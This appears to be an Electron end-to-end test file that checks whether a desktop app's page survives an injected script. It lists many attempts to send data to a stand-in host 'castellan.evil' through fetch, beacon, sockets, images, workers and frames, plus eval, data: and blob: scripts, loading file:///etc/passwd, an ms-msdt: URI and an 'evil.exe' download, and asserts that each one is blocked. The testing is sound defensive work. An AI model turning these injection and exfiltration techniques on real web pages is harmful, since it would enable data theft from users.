/** R5: a script that has got into the page, in a real Chromium under the built shell: what it tries, and what stops it. */
import { type Page } from '../e2e/support/test'
import { NOTICE_SCHEMAS, REQUEST_SCHEMAS } from '../../main/ipc/schemas'
import { type RunningShell } from './process/launch'
import { expect, test } from './shellTest'

type Attack = readonly [name: string, stoppedBy: string]

/** Attacks that the policy of the page stops, each with the directive that stops it. */
const STOPPED: readonly Attack[] = [
  ['fetch', 'connect-src'],
  ['request', 'connect-src'],
  ['socket', 'connect-src'],
  ['event source', 'connect-src'],
  ['beacon', 'connect-src'],
  ['picture', 'img-src'],
  ['style sheet', 'style-src-elem'],
  ['font', 'font-src'],
  ['film', 'media-src'],
  ['script from elsewhere', 'script-src-elem'],
  ['script in the page', 'script-src-elem'],
  ['script of data', 'script-src-elem'],
  ['script of a blob', 'script-src-elem'],
  ['module of data', 'script-src-elem'],
  ['handler in an attribute', 'script-src-attr'],
  ['address that is a script', 'script-src-elem'],
  ['eval', 'script-src'],
  ['function of text', 'script-src'],
  ['worker of a blob', 'worker-src'],
  ['worker of data', 'worker-src'],
  ['frame of another site', 'frame-src'],
  ['frame of data', 'frame-src'],
  ['frame of our page', 'frame-src'],
  ['object', 'object-src'],
  ['base', 'base-uri'],
  ['form', 'form-action'],
]

/** Runs in the page; answers with the rule that was broken. */
function attack(name: string): Promise<string> {
  const away = 'https://castellan.evil/x'
  const evil = 'window.evil = 1'
  const add = (tag: string, attributes: Readonly<Record<string, string>>, text = ''): HTMLElement => {
    const element = document.createElement(tag)
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
    element.textContent = text
    document.body.append(element)
    return element
  }
  const blob = (): string => URL.createObjectURL(new Blob([evil], { type: 'text/javascript' }))
  const attacks: Readonly<Record<string, () => unknown>> = {
    fetch: () => fetch(away),
    request() {
      const request = new XMLHttpRequest()
      request.open('POST', away)
      request.send('secret')
    },
    socket: () => new WebSocket('wss://castellan.evil/x'),
    'event source': () => new EventSource(away),
    beacon: () => navigator.sendBeacon(away, 'secret'),
    picture: () => add('img', { src: away }),
    'style sheet': () => add('link', { rel: 'stylesheet', href: away }),
    font: () => new FontFace('evil', `url(${away})`).load(),
    film: () => add('video', { src: away }),
    'script from elsewhere': () => add('script', { src: away }),
    'script in the page': () => add('script', {}, evil),
    'script of data': () => add('script', { src: `data:text/javascript,${evil}` }),
    'script of a blob': () => add('script', { src: blob() }),
    'module of data': () => import(`data:text/javascript,${evil}`),
    'handler in an attribute': () => add('div', { onclick: evil }).click(),
    'address that is a script': () => add('a', { href: `javascript:${evil}` }).click(),
    eval: () => (0, eval)(evil) as unknown,
    'function of text': () => new Function(evil)() as unknown,
    'worker of a blob': () => new Worker(blob()),
    'worker of data': () => new Worker(`data:text/javascript,${evil}`),
    'frame of another site': () => add('iframe', { src: away }),
    'frame of data': () => add('iframe', { src: `data:text/html,<script>${evil}</script>` }),
    'frame of our page': () => add('iframe', { src: location.href }),
    object: () => add('object', { data: away }),
    base: () => add('base', { href: away }),
    form: () => (add('form', { action: away, method: 'post' }) as HTMLFormElement).submit(),
  }
  return new Promise((resolve) => {
    const told = (event: SecurityPolicyViolationEvent): void => resolve(event.effectiveDirective)
    document.addEventListener('securitypolicyviolation', told, { once: true })
    setTimeout(() => resolve('nothing'), 300_000)
    // Later: what a debugger runs itself may use `eval`.
    setTimeout(async () => {
      try {
        await (attacks[name] ?? (() => resolve('no such attack')))()
      } catch {
        // Reported by the event.
      }
    })
  })
}

/** The page is where it was, alone, and nothing of the script's has run. */
async function expectUnharmed(shell: RunningShell, page: Page): Promise<void> {
  expect(await page.evaluate(() => (window as { mark?: string; evil?: number }).mark)).toBe('still here')
  expect(await page.evaluate(() => (window as { evil?: number }).evil)).toBeUndefined()
  await expect.poll(() => page.context().pages().length).toBe(1)
  expect([(await shell.ask.windows()).length, await shell.ask.dialogs(), await shell.ask.problems()]).toEqual(
    [1, [], []],
  )
}

let shell: RunningShell
let page: Page

test.beforeEach(async ({ launch }) => {
  shell = await launch()
  page = shell.pages()[0]!
  // Gone with any navigation.
  await page.evaluate(() => Object.assign(window, { mark: 'still here' }))
})

test('what it would load, run or send is stopped by the policy', async () => {
  const found: string[] = []
  for (const [name] of STOPPED) found.push(`${name}: ${await page.evaluate(attack, name)}`)
  expect(found).toEqual(STOPPED.map((row) => row.join(': ')))
  await expectUnharmed(shell, page)
})

test('going elsewhere, opening windows and downloading do nothing', async () => {
  const addresses = [
    'https://castellan.evil/',
    'http://castellan.evil/',
    'file:///etc/passwd',
    'data:text/html,<script>window.evil=1</script>',
    'ms-msdt:/id',
  ]
  for (const address of addresses)
    await page.evaluate((url) => {
      window.open(url)
      window.open(url, '_top')
      const link = Object.assign(document.createElement('a'), { href: url, target: '_blank' })
      document.body.append(link)
      link.click()
      link.download = 'evil.exe'
      link.click()
      location.assign(url)
    }, address)
  await expectUnharmed(shell, page)
})

test('it finds nothing of Node or Electron, and a bridge that it cannot change', async () => {
  const found = await page.evaluate(() => {
    const names = [
      'require',
      'process',
      'module',
      'exports',
      'global',
      'Buffer',
      'ipcRenderer',
      'electron',
      '__dirname',
    ]
    const world = window as unknown as Record<string, Record<string, unknown>>
    const own = world.castellanHost!
    const verb = own.saveScenario
    const attempts: (() => unknown)[] = [
      () => (world.castellanHost = {}),
      () => delete world.castellanHost,
      () => Object.defineProperty(window, 'castellanHost', { value: {} }),
      () => (own.saveScenario = () => 'evil'),
      () => delete own.saveScenario,
      () => Object.assign(own, { evil: 1 }),
      () => Object.setPrototypeOf(own, { evil: 1 }),
    ]
    for (const attempt of attempts)
      try {
        attempt()
      } catch {
        // Refused aloud: strict code hears of it.
      }
    return {
      leaks: names.filter((name) => name in window),
      same: world.castellanHost === own && own.saveScenario === verb && !('evil' in own),
      keys: Object.keys(own).sort(),
    }
  })
  const ofPreload = ['openDroppedPath', 'answerClose', 'closeHeard']
  const verbs = Object.keys({ ...REQUEST_SCHEMAS, ...NOTICE_SCHEMAS }).filter(
    (verb) => !ofPreload.includes(verb),
  )
  const more = ['kind', 'manyWindows', 'nativeMenus', 'onMenu', 'onCloseRequest', 'openDropped']
  expect(found).toEqual({
    leaks: [],
    same: true,
    keys: [...verbs, ...more].sort(),
  })
  await expectUnharmed(shell, page)
})

test('it is granted nothing', async () => {
  const answers = await page.evaluate(async () => {
    const asked: Readonly<Record<string, () => Promise<unknown>>> = {
      geolocation: () =>
        new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
      camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
      clipboard: () => navigator.clipboard.readText(),
      notifications: async () => {
        if ((await Notification.requestPermission()) !== 'granted') throw new Error('denied')
      },
    }
    const granted: string[] = []
    for (const [name, ask] of Object.entries(asked))
      await ask().then(
        () => granted.push(name),
        () => undefined,
      )
    return granted
  })
  expect(answers).toEqual([])
  await expectUnharmed(shell, page)
})
